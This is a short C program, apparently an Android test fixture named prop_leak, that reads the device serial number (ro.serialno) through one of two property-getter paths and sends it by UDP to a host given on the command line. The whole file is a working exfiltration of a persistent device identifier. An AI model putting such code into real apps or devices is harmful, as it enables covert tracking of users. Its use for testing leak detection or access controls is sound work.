// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* prop_leak: reads ro.serialno through the property getters and sends it over UDP (argv: host, how). */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct prop_info;
int __system_property_get(const char *name, char *value);
const struct prop_info *__system_property_find(const char *name);
void __system_property_read_callback(const struct prop_info *pi,
				     void (*callback)(void *, const char *, const char *, uint32_t),
				     void *cookie);

static void copy_value(void *cookie, const char *name, const char *value, uint32_t serial)
{
	strcpy(cookie, value);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9999) };
	char value[92] = "", msg[128];
	int s;

	if (argc < 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	if (!strcmp(argv[2], "callback")) {
		const struct prop_info *pi = __system_property_find("ro.serialno");

		if (!pi)
			return 3;
		__system_property_read_callback(pi, copy_value, value);
	} else if (__system_property_get("ro.serialno", value) <= 0) {
		return 3;
	}
	snprintf(msg, sizeof(msg), "serial=%s", value);
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 4;
	close(s);
	return 0;
}
